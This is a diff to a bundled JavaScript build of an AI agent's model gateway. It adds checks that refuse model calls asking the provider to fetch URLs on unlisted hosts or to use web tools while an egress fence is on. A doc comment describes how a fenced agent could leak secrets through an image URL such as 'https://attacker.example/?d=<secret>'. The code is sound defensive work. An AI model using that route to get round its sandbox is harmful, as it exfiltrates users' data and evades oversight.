@@ -40084,7 +40084,7 @@ function planIsolation(mode, platform = process.platform, host = THIS_HOST) {
 
 /***/ }),
 
-/***/ 64378:
+/***/ 77349:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -41072,11 +41072,131 @@ function refuseUnreached(res, why) {
     res.end(JSON.stringify({ type: 'error', error: { type: 'api_error', message } }));
 }
 
+// EXTERNAL MODULE: ./src/config/allowed-hosts.ts
+var allowed_hosts = __nccwpck_require__(38016);
+;// CONCATENATED MODULE: ./src/gateway/reach.ts
+/**
+ * What a model call asks the provider to reach for the agent. The egress fence keeps the agent's own
+ * connections to the gateway (and `allowed-hosts`), but the provider fetches on its side whatever a
+ * call names: an image, a file or a document given by URL, an MCP server, and its server-side tools
+ * go to the web (web search, web fetch, URL context). A fenced agent could send what it read to any
+ * host that way: `https://attacker.example/?d=<secret>` as an image. So, while the fence is asked
+ * for, the gateway refuses a call that names a URL on a host `allowed-hosts` does not list, or that
+ * gives the model a tool reaching the web (`reachesPastFence`). Pure: the parsed body in, the reaches out.
+ */
+
+/** Keys whose string value the providers fetch when it is a URL (OpenAI, Anthropic, OpenRouter, Gemini's OpenAI API). */
+const URL_KEYS = new Set([
+    'url',
+    'image_url',
+    'file_url',
+    'audio_url',
+    'video_url',
+    'document_url',
+    'server_url',
+    'file_uri',
+    'fileUri'
+]);
+/** Server-side tools that reach the web from the provider (a tool definition's `type`). */
+const WEB_TOOL = /^(web_search|web_fetch|mcp|url_context|google_search|browser_search)/i;
+/** A scheme the provider would fetch: anything but inline data. */
+const SCHEME = /^\s*([a-z][a-z0-9+.-]*):/i;
+/** How many objects and arrays are looked at, at most: a body is bounded (server.ts), and so is this walk. */
+const MAX_NODES = 1_000_000;
+function urlReach(at, value) {
+    const scheme = SCHEME.exec(value)?.[1]?.toLowerCase();
+    if (!scheme || scheme === 'data')
+        return undefined;
+    let url;
+    try {
+        url = new URL(value.trim());
+    }
+    catch {
+        return { kind: 'url', at, scheme };
+    }
+    const port = Number(url.port) || (url.protocol === 'http:' || url.protocol === 'ws:' ? 80 : 443);
+    const host = url.hostname.replace(/^\[|\]$/g, '');
+    return host ? { kind: 'url', at, host, port } : { kind: 'url', at, scheme };
+}
+/** The top-level asks that turn on the provider's web search (OpenAI's, OpenRouter's). */
+function topLevel(body) {
+    const found = [];
+    if (body.web_search_options !== undefined)
+        found.push({ kind: 'tool', at: 'web_search_options', tool: 'web_search_options' });
+    if (typeof body.model === 'string' && /:online$/i.test(body.model))
+        found.push({ kind: 'tool', at: 'model', tool: `${body.model} (web search)` });
+    if (Array.isArray(body.plugins))
+        body.plugins.forEach((plugin, i) => {
+            const id = plugin?.id;
+            if (typeof id === 'string' && id.toLowerCase() === 'web')
+                found.push({ kind: 'tool', at: `plugins[${i}]`, tool: 'web plugin' });
+        });
+    return found;
+}
+/**
+ * Every URL and web tool the body asks the provider to reach. The walk keeps its own stack (a body
+ * nested deeper than the call stack is no crash) and stops at MAX_NODES containers, which refuses
+ * the call: a body too big to check is not let through unchecked.
+ */
+function reachOf(body) {
+    if (typeof body !== 'object' || body === null)
+        return [];
+    const found = Array.isArray(body) ? [] : topLevel(body);
+    const stack = [
+        { value: body, at: '', inTools: false }
+    ];
+    let nodes = 0;
+    const push = (value, at, inTools) => {
+        if (typeof value !== 'object' || value === null)
+            return;
+        if (++nodes <= MAX_NODES)
+            stack.push({ value, at, inTools });
+    };
+    for (let next = stack.pop(); next; next = stack.pop()) {
+        const { value, at, inTools } = next;
+        if (Array.isArray(value)) {
+            value.forEach((item, i) => push(item, `${at}[${i}]`, inTools));
+            continue;
+        }
+        const record = value;
+        if (inTools && typeof record.type === 'string' && WEB_TOOL.test(record.type))
+            found.push({ kind: 'tool', at, tool: record.type });
+        for (const [key, child] of Object.entries(record)) {
+            const where = at ? `${at}.${key}` : key;
+            const reach = typeof child === 'string' && URL_KEYS.has(key) ? urlReach(where, child) : undefined;
+            if (reach)
+                found.push(reach);
+            push(child, where, inTools || key === 'tools' || key === 'mcp_servers');
+        }
+    }
+    if (nodes > MAX_NODES)
+        found.push({ kind: 'unchecked', at: 'the whole body' });
+    return found;
+}
+/** What the fence lets the provider reach: a URL on a listed host; never a web tool. */
+function reachesPastFence(reach, hosts) {
+    if (reach.kind !== 'url')
+        return true;
+    return reach.host === undefined || !(0,allowed_hosts/* allows */.NB)(hosts, reach.host, reach.port);
+}
+/** The refusal's words: what was asked, where in the body, and what would let it. */
+function reachRefusal(reach) {
+    const what = reach.kind === 'unchecked'
+        ? `holds more than ${MAX_NODES.toLocaleString('en-US')} objects and lists, too many to check for what the provider would fetch`
+        : reach.kind === 'tool'
+            ? `gives the model the provider's ${JSON.stringify(reach.tool)}, which reaches the web from the provider`
+            : reach.host !== undefined
+                ? `asks the provider to fetch from ${reach.host}:${reach.port}, a host "allowed-hosts" does not list`
+                : `asks the provider to fetch a ${JSON.stringify(reach.scheme)} URL it cannot check`;
+    return `model gateway: the call ${what} (at ${reach.at}), past the egress fence; refused. "allowed-hosts: *" lets the agent reach any host`;
+}
+
 ;// CONCATENATED MODULE: ./src/gateway/server.ts
 /**
  * The loopback server Hermes talks to: it checks the capability, allows only the fronted providers'
  * API paths, applies the budgets, and hands each call to forward().
  */
+
 
 
 
@@ -41145,25 +41265,30 @@ async function bodyOf(req, pool, taken) {
     return Buffer.concat(chunks);
 }
 const MIB = 1024 * 1024;
-/** The request's model and, for OpenRouter, the body asking for usage accounting (the cost). */
-function prepared(provider, path, body) {
+/**
+ * The request as the gateway reads it: its model, what it asks the provider to reach (reach.ts), and,
+ * for an OpenRouter call, the body asking for usage accounting (the cost).
+ */
+function prepared(provider, path, body, isCall) {
     let parsed;
     try {
-        parsed = JSON.parse(body.toString('utf8'));
+        parsed = body.length > 0 ? JSON.parse(body.toString('utf8')) : undefined;
     }
     catch {
-        return { body };
+        return { body, reach: [] };
     }
-    if (typeof parsed !== 'object' || parsed === null || Array.isArray(parsed))
-        return { body };
+    const reach = reachOf(parsed);
+    if (!isCall || typeof parsed !== 'object' || parsed === null || Array.isArray(parsed))
+        return { body, reach };
     const record = parsed;
     const model = typeof record.model === 'string' ? record.model : undefined;
     if (provider.provider !== 'openrouter' || !path.endsWith('completions'))
-        return { model, body };
+        return { model, body, reach };
     const usage = typeof record.usage === 'object' && record.usage !== null ? record.usage : {};
     return {
         model,
-        body: Buffer.from(JSON.stringify({ ...record, usage: { ...usage, include: true } }))
+        body: Buffer.from(JSON.stringify({ ...record, usage: { ...usage, include: true } })),
+        reach
     };
 }
 function budgetMessage(stop) {
@@ -41188,7 +41313,7 @@ async function asked(req, res, { fronted }, expected, holding) {
         return void deny(res, 503, 'overloaded_error', `model gateway: the calls under way hold over ${limits.inFlight / MIB} MiB of request bodies; this one is refused until one ends`);
     }
     const isCall = provider.spec.paths[path]?.call === true && req.method === 'POST';
-    const { model, body } = isCall ? prepared(provider, path, raw) : { model: undefined, body: raw };
+    const { model, body, reach } = prepared(provider, path, raw, isCall);
     const base = {
         provider: provider.provider,
         ...(model !== undefined ? { model } : {}),
@@ -41197,7 +41322,34 @@ async function asked(req, res, { fronted }, expected, holding) {
         retries: 0,
         streamed: false
     };
-    return { provider, path, query, isCall, ...(model !== undefined && { model }), body, base };
+    return {
+        provider,
+        path,
+        query,
+        isCall,
+        ...(model !== undefined && { model }),
+        body,
+        reach,
+        base
+    };
+}
+/**
+ * Under the egress fence, a call that asks the provider to reach a host the fence keeps from the
+ * agent, or gives the model a web tool of the provider's, is refused (403) before it counts against
+ * any budget; false once it is.
+ */
+function withinFence(call, res, options) {
+    const hosts = options.fencedHosts;
+    const past = hosts ? call.reach.filter(r => reachesPastFence(r, hosts)) : [];
+    const first = past[0];
+    if (!first)
+        return true;
+    const more = past.length > 1 ? ` (and ${past.length - 1} more in the same call)` : '';
+    const message = `${reachRefusal(first)}${more}`;
+    options.note(message);
+    options.pastFence?.();
+    deny(res, 403, 'permission_error', message);
+    return false;
 }
 /**
  * The budgets' admission: a call goes only with room for what it may cost, every open call counted at
@@ -41311,6 +41463,8 @@ async function listen(options) {
     };
     const answer = async (req, res, taken) => {
         const call = await asked(req, res, options, expected, { pool, taken });
+        if (call && !withinFence(call, res, options))
+            return;
         const admission = call && admitted(call, res, options);
         if (!call || !admission)
             return;
@@ -41413,6 +41567,7 @@ async function startGateway(options) {
     // Handed out as `…_API_KEY`, a name the redaction treats as secret; the caller masks it as well.
     const capability = `hgw-${(0,external_node_crypto_.randomBytes)(32).toString('base64url')}`;
     const ledger = new Ledger(options.budgets);
+    let pastFence = 0;
     const listening = await listen({
         fronted,
         capability,
@@ -41423,7 +41578,8 @@ async function startGateway(options) {
         sleep: options.sleep ?? retry/* abortableSleep */.M,
         ...(options.loopbackTrusted && { loopbackTrusted: options.loopbackTrusted }),
         ...(options.prices && { prices: options.prices }),
-        ...(options.bodyLimits && { bodyLimits: options.bodyLimits })
+        ...(options.bodyLimits && { bodyLimits: options.bodyLimits }),
+        ...(options.fencedHosts && { fencedHosts: options.fencedHosts, pastFence: () => pastFence++ })
     });
     const env = {};
     for (const f of fronted) {
@@ -41449,7 +41605,7 @@ async function startGateway(options) {
         capability,
         port: listening.port,
         fronted: Object.freeze(fronted.map(({ provider, keyVariable, upstream }) => ({ provider, keyVariable, upstream }))),
-        stats: () => ledger.stats(),
+        stats: () => ({ ...ledger.stats(), ...(pastFence > 0 && { pastFence }) }),
         close: () => listening.close()
     };
 }
@@ -41465,7 +41621,8 @@ function gatewayFact(gateway, redact) {
         tokens: stats.tokens,
         ...(stats.costUsd !== undefined && { costUsd: stats.costUsd }),
         costLive: stats.costLive,
-        ...(stats.stopped && { stopped: stats.stopped })
+        ...(stats.stopped && { stopped: stats.stopped }),
+        ...(stats.pastFence !== undefined && { pastFence: stats.pastFence })
     };
 }
 /**
@@ -65078,8 +65235,8 @@ function invalidInputReport(message, redact) {
 var install_install = __nccwpck_require__(86751);
 // EXTERNAL MODULE: ./src/hermes/session-record.ts
 var session_record = __nccwpck_require__(15282);
-// EXTERNAL MODULE: ./src/gateway/gateway.ts + 7 modules
-var gateway = __nccwpck_require__(64378);
+// EXTERNAL MODULE: ./src/gateway/gateway.ts + 8 modules
+var gateway = __nccwpck_require__(77349);
 // EXTERNAL MODULE: ./src/turn/cancellation.ts
 var turn_cancellation = __nccwpck_require__(1616);
 // EXTERNAL MODULE: ./src/hermes/cli.ts + 2 modules
@@ -68478,7 +68635,9 @@ async function startTurnGateway(settings, plan, log, cancellation, { env, gatewa
         warning,
         sleep: clock.sleep,
         // The agent, as its own user, could bind a loopback upstream's port before its server does.
-        ...(isolated && { loopbackTrusted: notAgentOwned })
+        ...(isolated && { loopbackTrusted: notAgentOwned }),
+        // Fenced, the provider may be asked to fetch from the listed hosts only (gateway/reach.ts).
+        ...(settings.egress.kind === 'fenced' && { fencedHosts: settings.egress.hosts })
     });
     const { dotenv } = read;
     const configHeld = fronting.configHeld.length > 0 ? { configHeld: fronting.configHeld } : {};
@@ -70306,6 +70465,8 @@ function modelCallsFact(fact) {
     ];
     if (refused > 0)
         parts.push(`**${number.format(refused)} refused**`);
+    if (fact.pastFence)
+        parts.push(`**${number.format(fact.pastFence)} refused for reaching past the egress fence** (the log says what)`);
     if (fact.stopped)
         parts.push(`**stopped by \`${fact.stopped.budget}\`: ${fact.stopped.figure} of ${fact.stopped.limit}**`);
     return parts.join(' · ');
@@ -72126,8 +72287,8 @@ var gate = __nccwpck_require__(78319);
 var cli = __nccwpck_require__(37242);
 // EXTERNAL MODULE: ./src/install/install.ts + 4 modules
 var install = __nccwpck_require__(86751);
-// EXTERNAL MODULE: ./src/gateway/gateway.ts + 7 modules
-var gateway = __nccwpck_require__(64378);
+// EXTERNAL MODULE: ./src/gateway/gateway.ts + 8 modules
+var gateway = __nccwpck_require__(77349);
 // EXTERNAL MODULE: ./src/confine/host.ts
 var host = __nccwpck_require__(68700);
 // EXTERNAL MODULE: ./src/hermes/session-record.ts
